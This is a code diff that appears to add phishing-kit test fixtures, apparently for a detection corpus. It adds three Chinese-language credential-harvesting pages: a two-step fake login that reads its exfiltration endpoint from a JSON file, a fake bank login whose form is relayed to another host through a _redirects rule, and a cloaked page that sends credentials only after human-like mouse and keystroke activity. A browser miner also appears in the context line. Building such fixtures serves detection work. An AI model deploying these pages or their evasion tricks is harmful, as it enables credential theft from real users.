@@ -653,6 +653,44 @@ var miner = { threads: navigator.hardwareConcurrency, start: function () { var w
     ),
   });
 
+  // An outside review's kits that beat the render of the time: a password asked after 下一步, a
+  // form passed on by the site's own _redirects, and one that watched how the visitor acted.
+  add('two-step-login', 'password field added after 下一步, endpoint read from a JSON file', {
+    'index.html': page(
+      '统一认证',
+      '',
+      `<div class="box"><h2>统一身份认证</h2><p class="warn">检测到异常登录，账户已被临时冻结，请验证身份解冻</p>
+<form id="f"><input name="u" placeholder="账号 / 手机号"><button type="button" id="next">下一步</button></form></div>
+<script>fetch('cfg.json').then(function (r) { return r.json(); }).then(function (cfg) {
+  document.getElementById('next').onclick = function () { document.getElementById('f').insertAdjacentHTML('beforeend', '<input type="password" name="p" placeholder="密码"><button>登录</button>'); this.remove(); };
+  document.getElementById('f').onsubmit = function (e) { e.preventDefault(); if (!this.p) return; fetch(cfg.ep, { method: 'POST', body: JSON.stringify({ u: this.u.value, p: this.p.value }) }); };
+});</script>`,
+    ),
+    'cfg.json': JSON.stringify({ ep: `https://${r.host()}/c` }),
+  });
+  add('redirect-relay', "form posted to the site's own path, passed to another host by _redirects", {
+    'index.html': page(
+      '网上银行',
+      '',
+      LOGIN_FORM('网上银行', '您的网银证书即将过期，请登录更新').replace(
+        '<form id="f">',
+        '<form id="f" action="login.html" method="post">',
+      ),
+    ),
+    'login.html': page('登录中', '', '<p>正在登录……</p>'),
+    _redirects: `/login.html  https://${r.host()}/c  307!\n`,
+  });
+  add('cloak-behaviour', 'credentials sent only after mouse moves and keys at a human pace', {
+    'index.html': page(
+      '积分兑换',
+      '',
+      `${LOGIN_FORM('积分商城', '积分今日清零，登录即可兑换')}
+<script>var moves = 0, last = 0, gaps = []; addEventListener('mousemove', function () { moves++; });
+addEventListener('keydown', function (e) { if (last) gaps.push(e.timeStamp - last); last = e.timeStamp; });
+${hexSend('moves < 3 || gaps.length === 0 || gaps.reduce(function (a, b) { return a + b; }, 0) / gaps.length < 25')}</script>`,
+    ),
+  });
+
   add('delayed-redirect', 'redirect to a scam after a delay, host encoded', {
     'index.html': page(
       '正在加载',
